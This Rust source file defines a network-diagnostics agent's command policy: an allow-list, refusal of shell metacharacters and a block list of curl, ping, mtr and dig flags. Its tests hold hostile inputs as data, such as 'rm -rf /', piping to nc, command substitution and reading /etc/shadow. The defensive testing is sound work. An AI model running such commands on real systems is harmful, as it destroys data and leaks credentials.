//! The agent's command policy: what a task's command line may run, decided before anything is
//! executed.
//!
//! Without `-agent.task.shell` a command is split into words at spaces, never given to a
//! shell: its first word must be a program of the allow-list (`-agent.task.allow`, by default
//! the diagnostics an operator reaches for: [`DEFAULT_ALLOWED`]), the characters a shell would
//! act on are refused (so nobody is surprised that `a | b` did not pipe), and so are the flags
//! of each allowed tool that read or write local files or flood the network
//! ([`refused_flag`]). With `-agent.task.shell` the command line goes to `/bin/sh -c` as in the
//! Go ProberMesh: anything the agent's user may do.

use std::collections::BTreeSet;
use std::fmt;

use super::Invocation;

/// The programs a task may run by default: read-only network diagnostics.
pub const DEFAULT_ALLOWED: [&str; 6] = ["mtr", "traceroute", "tracepath", "ping", "dig", "curl"];

/// The characters refused in a command without the shell: those a POSIX shell would act on
/// (pipes, lists, redirections, substitutions, quoting, globbing, comments). `[` and `]` are
/// kept: without a shell they are plain text, and IPv6 URLs need them.
pub const SHELL_METACHARACTERS: &str = "|&;<>()$`\\\"'*?{}~#";

/// What an agent lets tasks run.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct CommandPolicy {
    /// Programs a command may start with: bare names (looked up in `PATH`) or absolute paths,
    /// matched exactly.
    pub allowed: BTreeSet<String>,
    /// Whether commands go to `/bin/sh -c` unchecked (`-agent.task.shell`).
    pub shell: bool,
}

impl Default for CommandPolicy {
    fn default() -> Self {
        Self {
            allowed: DEFAULT_ALLOWED.iter().map(|p| (*p).to_owned()).collect(),
            shell: false,
        }
    }
}

/// Why a command was refused.
#[derive(Clone, Debug, Eq, PartialEq, thiserror::Error)]
pub enum CommandRefusal {
    /// Nothing to run.
    #[error("the command is empty")]
    Empty,
    /// A control character (newline, NUL, tab, …).
    #[error(
        "the command holds the control character {character:?} at byte {at}: commands are one \
         line of plain words"
    )]
    ControlCharacter {
        /// The character.
        character: char,
        /// Its byte offset.
        at: usize,
    },
    /// A shell metacharacter without the shell.
    #[error(
        "the command holds {character:?} at byte {at}, which only a shell acts on, and this \
         agent runs commands without a shell (start it with -agent.task.shell to allow shell \
         commands)"
    )]
    Metacharacter {
        /// The character.
        character: char,
        /// Its byte offset.
        at: usize,
    },
    /// The program is not in the allow-list.
    #[error(
        "{program:?} is not a program this agent runs for tasks (allowed: {allowed}; extend \
         the list with -agent.task.allow)"
    )]
    NotAllowed {
        /// The program as written.
        program: String,
        /// The allow-list, comma-separated.
        allowed: String,
    },
    /// A flag of an allowed program that this policy refuses.
    #[error("{program} {flag}: {why}")]
    RefusedFlag {
        /// The program.
        program: String,
        /// The argument holding the flag.
        flag: String,
        /// Why it is refused.
        why: &'static str,
    },
}

impl CommandPolicy {
    /// What running `command` means under this policy.
    ///
    /// # Errors
    /// [`CommandRefusal`] naming what is refused.
    pub fn invocation(&self, command: &str) -> Result<Invocation, CommandRefusal> {
        if command.trim().is_empty() {
            return Err(CommandRefusal::Empty);
        }
        if let Some((at, character)) = command.char_indices().find(|(_, c)| c.is_control()) {
            return Err(CommandRefusal::ControlCharacter { character, at });
        }
        if self.shell {
            return Ok(Invocation::Shell {
                script: command.to_owned(),
            });
        }
        if let Some((at, character)) = command
            .char_indices()
            .find(|(_, c)| SHELL_METACHARACTERS.contains(*c))
        {
            return Err(CommandRefusal::Metacharacter { character, at });
        }
        let mut words = command.split(' ').filter(|w| !w.is_empty());
        let program = words.next().ok_or(CommandRefusal::Empty)?;
        if !self.allowed.contains(program) {
            return Err(CommandRefusal::NotAllowed {
                program: program.to_owned(),
                allowed: self
                    .allowed
                    .iter()
                    .map(String::as_str)
                    .collect::<Vec<_>>()
                    .join(","),
            });
        }
        let args: Vec<String> = words.map(str::to_owned).collect();
        let tool = program.rsplit('/').next().unwrap_or(program);
        for arg in &args {
            if let Some(why) = refused_flag(tool, arg) {
                return Err(CommandRefusal::RefusedFlag {
                    program: program.to_owned(),
                    flag: arg.clone(),
                    why,
                });
            }
        }
        Ok(Invocation::Program {
            program: program.to_owned(),
            args,
        })
    }
}

impl fmt::Display for CommandPolicy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.shell {
            f.write_str("any command, through /bin/sh -c")
        } else {
            let allowed: Vec<&str> = self.allowed.iter().map(String::as_str).collect();
            write!(f, "no shell; programs: {}", allowed.join(","))
        }
    }
}

/// Refused flags of one tool: long names (matched with or without `=value`) and short
/// letters (matched anywhere in a bundle such as `-sSo`).
struct ToolFlags {
    tool: &'static str,
    long: &'static [&'static str],
    short: &'static str,
    why: &'static str,
}

const REFUSED_FLAGS: [ToolFlags; 4] = [
    ToolFlags {
        tool: "curl",
        long: &[
            "--output",
            "--remote-name",
            "--remote-name-all",
            "--output-dir",
            "--create-dirs",
            "--config",
            "--upload-file",
            "--dump-header",
            "--cookie",
            "--cookie-jar",
            "--trace",
            "--trace-ascii",
            "--trace-config",
            "--libcurl",
            "--stderr",
            "--etag-save",
            "--etag-compare",
            "--hsts",
            "--alt-svc",
            "--form",
            "--data",
            "--data-binary",
            "--data-raw",
            "--data-urlencode",
            "--data-ascii",
            "--json",
            "--cert",
            "--key",
            "--netrc",
            "--netrc-file",
            "--netrc-optional",
            "--unix-socket",
            "--abstract-unix-socket",
            "--variable",
            "--write-out",
            "--url-query",
            "--proto-default",
            "--engine",
        ],
        short: "oOKTDcbFdEnw",
        why: "curl options that read or write local files or send data are refused in tasks; \
              curl prints the answer to the task's output",
    },
    ToolFlags {
        tool: "ping",
        long: &[],
        short: "fl",
        why: "flood and preload pings are refused in tasks",
    },
    ToolFlags {
        tool: "mtr",
        long: &["--filename"],
        short: "F",
        why: "mtr reading its targets from a local file is refused in tasks",
    },
    ToolFlags {
        tool: "dig",
        long: &[],
        short: "fk",
        why: "dig reading a batch or key file is refused in tasks",
    },
];

/// Why `arg` of `tool` is refused, if it is: the table of refused flags (curl, ping, mtr, dig); also any curl URL of a
/// scheme other than HTTP(S) (`file:`, `dict:`, `gopher:`, …).
#[must_use]
pub fn refused_flag(tool: &str, arg: &str) -> Option<&'static str> {
    if tool == "curl" && !arg.starts_with('-') && arg.contains("://") {
        let scheme = arg.split("://").next().unwrap_or_default();
        if !scheme.eq_ignore_ascii_case("http") && !scheme.eq_ignore_ascii_case("https") {
            return Some("curl in tasks fetches http:// and https:// URLs only");
        }
    }
    let flags = REFUSED_FLAGS.iter().find(|f| f.tool == tool)?;
    if let Some(long) = arg.strip_prefix("--") {
        let name = long.split('=').next().unwrap_or(long);
        return flags
            .long
            .iter()
            .any(|refused| refused.trim_start_matches("--") == name)
            .then_some(flags.why);
    }
    let bundle = arg.strip_prefix('-')?;
    bundle
        .chars()
        .any(|letter| flags.short.contains(letter))
        .then_some(flags.why)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn program(command: &str) -> Result<Invocation, CommandRefusal> {
        CommandPolicy::default().invocation(command)
    }

    #[test]
    fn an_allowed_diagnostic_runs_as_words_without_a_shell() {
        assert_eq!(
            program("mtr  -r www.example.com -c 20 -i0.1"),
            Ok(Invocation::Program {
                program: "mtr".into(),
                args: vec![
                    "-r".into(),
                    "www.example.com".into(),
                    "-c".into(),
                    "20".into(),
                    "-i0.1".into()
                ],
            })
        );
        assert!(program("curl -sS -m 5 http://[2001:db8::1]:8080/health").is_ok());
        assert!(program("dig @198.18.0.1 example.com AAAA").is_ok());
    }

    #[test]
    fn shell_syntax_is_refused_with_the_character_and_its_place() {
        let refusal = program("ping -c1 a; rm -rf /").unwrap_err();
        assert_eq!(
            refusal,
            CommandRefusal::Metacharacter {
                character: ';',
                at: 10
            }
        );
        assert!(refusal.to_string().contains("-agent.task.shell"));
        for command in [
            "ping a | nc b",
            "ping $(id)",
            "ping `id`",
            "ping a > /tmp/x",
            "ping 'a'",
            "ping a && id",
            "ping *",
            "ping ~",
        ] {
            assert!(
                matches!(program(command), Err(CommandRefusal::Metacharacter { .. })),
                "{command}"
            );
        }
        assert!(matches!(
            program("ping a\nid"),
            Err(CommandRefusal::ControlCharacter { .. })
        ));
        assert!(matches!(
            program("ping a\0"),
            Err(CommandRefusal::ControlCharacter { .. })
        ));
    }

    #[test]
    fn only_allowed_programs_run() {
        let refusal = program("bash -c id").unwrap_err();
        assert!(matches!(refusal, CommandRefusal::NotAllowed { .. }));
        assert!(
            refusal
                .to_string()
                .contains("curl,dig,mtr,ping,tracepath,traceroute")
        );
        // A path is not the bare name it ends in.
        assert!(matches!(
            program("/tmp/ping a"),
            Err(CommandRefusal::NotAllowed { .. })
        ));
        let mut policy = CommandPolicy::default();
        policy.allowed.insert("/usr/bin/uptime".into());
        assert!(policy.invocation("/usr/bin/uptime").is_ok());
        assert!(policy.invocation("uptime").is_err());
    }

    #[test]
    fn dangerous_flags_of_allowed_tools_are_refused() {
        for command in [
            "curl -o /etc/passwd http://x/",
            "curl -sSo /x http://x/",
            "curl --output=/x http://x/",
            "curl -K cfg",
            "curl file:///etc/shadow",
            "curl FILE:///etc/shadow",
            "curl gopher://x/",
            "curl -d @/etc/shadow http://x/",
            "ping -f 198.18.0.1",
            "ping -l 100 198.18.0.1",
            "mtr -F hosts",
            "dig -f names",
        ] {
            assert!(
                matches!(program(command), Err(CommandRefusal::RefusedFlag { .. })),
                "{command}"
            );
        }
        assert!(program("curl -sSI https://x/").is_ok());
        assert!(program("ping -c 3 -i 0.2 198.18.0.1").is_ok());
    }

    #[test]
    fn the_shell_mode_takes_any_one_line() {
        let policy = CommandPolicy {
            shell: true,
            ..CommandPolicy::default()
        };
        assert_eq!(
            policy.invocation("echo a | tr a b"),
            Ok(Invocation::Shell {
                script: "echo a | tr a b".into()
            })
        );
        assert!(policy.invocation("echo a\nid").is_err());
        assert!(policy.invocation("  ").is_err());
    }

    proptest! {
        /// Whatever the text, without the shell only an allowed program starts, and no word
        /// holds a metacharacter or a control character.
        #[test]
        fn no_command_escapes_the_policy(command in "\\PC{0,64}|[a-z ;|&$`'\"\\\\-]{0,40}") {
            if let Ok(Invocation::Program { program, args }) = program(&command) {
                prop_assert!(DEFAULT_ALLOWED.contains(&program.as_str()));
                for word in std::iter::once(&program).chain(&args) {
                    prop_assert!(!word.is_empty());
                    prop_assert!(!word.chars().any(|c| c.is_control() || SHELL_METACHARACTERS.contains(c) || c == ' '));
                }
            }
        }
    }
}
